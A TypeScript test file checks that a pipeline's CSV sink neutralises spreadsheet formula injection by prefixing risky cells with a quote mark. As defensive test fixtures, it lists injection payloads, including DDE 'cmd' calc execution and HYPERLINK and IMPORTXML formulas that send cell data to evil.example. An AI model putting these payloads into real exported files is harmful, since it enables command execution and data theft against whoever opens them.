import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';

import { csvSink } from '../../plugins/sinks/csv.ts';
import { pipelineFolder } from '../support/pipeline-folder.ts';

const begins = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
const before = ['', ' ', '   ', '\u00a0', '\ufeff', '\u200b', '\u2028'];

/** What a spreadsheet calculates, or may: it forgives what stands before the sign. */
const formulas: readonly string[] = [
  ...begins.flatMap((sign) => before.map((space) => `${space}${sign}1+1`)),
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  "-2+3+cmd|' /C calc'!A0",
  '"=1+1"'.slice(1, -1),
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tx',
  '\rx',
  '\nx',
  '\ufe66 1',
  '\u207a1',
];
/** What is none, and stays as it is. */
const plain = [
  '',
  ' ',
  'x',
  '1',
  'a=b',
  "it's",
  'x\n=1',
  '1-2',
  '{"a":1}',
  '#',
  '\u2212',
  '(=1)',
  '😀=1',
];
/** Says by itself that nothing is calculated; gets another mark, so that taking one away is right. */
const marked = ["'", "'=1", "''"];

const texts = [...formulas, ...plain, ...marked];
const input = texts.map((text, id) => `${JSON.stringify({ id, text })}\n`).join('');
const settings = (options: string, sink = 'csv', file = 'out.csv') => `
source: { plugin: json, options: { path: in.jsonl } }
sinks:
  out: { plugin: ${sink}, options: { path: out/${file}${options} } }
output_sink: out
`;
const fields = ', schema: { mode: fixed, fields: ["id: int", "text: str"] }';

async function cellsWritten(options: string): Promise<readonly string[]> {
  const folder = pipelineFolder({ 'in.jsonl': input, 'pipeline.yaml': settings(options + fields) });
  const { end } = await folder.run();
  expect(end).toMatchObject({ status: 'completed' });
  const records: string[][] = parse(folder.read('out/out.csv'));
  return records.slice(1).map(([, text = '']) => text);
}

test(`${formulas.length} formulas are texts in a file for spreadsheets, and nothing else is changed`, async () => {
  expect(formulas.length).toBeGreaterThanOrEqual(60);
  const cells = await cellsWritten(', spreadsheet_safe: true');
  expect(cells).toEqual(
    texts.map((text) => (formulas.includes(text) || marked.includes(text) ? `'${text}` : text)),
  );
  // One `'` taken away from what begins with it gives back what was there.
  expect(cells.map((cell) => cell.replace(/^'/, ''))).toEqual(texts);
});

test('in a file for machines they stay as they are', async () => {
  expect(await cellsWritten('')).toEqual(texts);
});

test('JSON Lines that are read and written again are the same bytes', async () => {
  const folder = pipelineFolder({
    'in.jsonl': input,
    'pipeline.yaml': settings('', 'json', 'out.jsonl'),
  });
  await folder.run();
  expect(folder.read('out/out.jsonl')).toBe(input);
});

test('names of columns are no formulas either, and rows can be appended under them', async () => {
  const folder = pipelineFolder({
    'in.jsonl': '{"=1+1":"=2","n":-3}\n',
    'pipeline.yaml': `
source:
  plugin: json
  options: { path: in.jsonl, normalize_fields: false, schema: { mode: fixed, fields: ["=1+1: str", "n: int"] } }
sinks: { out: { plugin: csv, options: { path: out/out.csv, if_exists: append, spreadsheet_safe: true } } }
output_sink: out
`,
  });
  await folder.run();
  await folder.run();
  expect(folder.read('out/out.csv')).toBe("'=1+1,n\n'=2,-3\n'=2,-3\n");
});

test('the record of the sink says which of the two it was', () => {
  expect(csvSink.bind({ path: 'a.csv', spreadsheet_safe: true }).options).toMatchObject({
    spreadsheet_safe: true,
  });
  expect(csvSink.bind({ path: 'a.csv' }).options).toMatchObject({ spreadsheet_safe: false });
});
